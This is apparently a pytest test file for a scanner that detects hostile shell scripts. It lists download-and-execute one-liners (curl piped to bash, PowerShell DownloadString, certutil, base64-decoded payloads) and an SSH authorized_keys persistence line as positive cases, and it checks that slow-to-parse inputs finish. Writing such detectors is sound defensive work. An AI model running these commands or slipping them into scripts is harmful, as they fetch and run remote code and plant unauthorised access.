"""Shell scripts: what fetches and runs, and scripts that are made to be slow to read."""

import pytest

from scanners.model_scan.shell_code import harmful_command


@pytest.mark.parametrize(
    "script",
    [
        "curl -sSL https://example.org/x | bash",
        "wget -O /tmp/x https://example.org/x; chmod +x /tmp/x",
        'curl https://example.org/x --output "run.sh"\nsh run.sh',
        "echo aWQ= | base64 -d | sh",
        "echo key >> ~/.ssh/authorized_keys",
        "certutil -urlcache -f https://example.org/x x.exe",
        "iex (New-Object Net.WebClient).DownloadString('https://example.org/x')",
    ],
)
def test_what_fetches_and_runs_or_settles_in(script):
    assert harmful_command("#!/bin/sh\n" + script + "\n")


@pytest.mark.parametrize(
    "script",
    [
        "wget https://example.org/data.zip -O data.zip\nunzip data.zip",
        "curl -o model.bin https://example.org/model.bin\npython train.py",
        "echo done > log.txt",
        "chmod +x run.sh && ./run.sh",
    ],
)
def test_what_does_not(script):
    assert harmful_command("#!/bin/sh\n" + script + "\n") is None


@pytest.mark.parametrize("word", ["curl -o ", ">", "curl ", "base64 -d ", "nc -a "])
def test_a_script_that_is_made_to_be_slow_ends(word):
    assert harmful_command(word * 20_000 + "a" * 20_000) is None
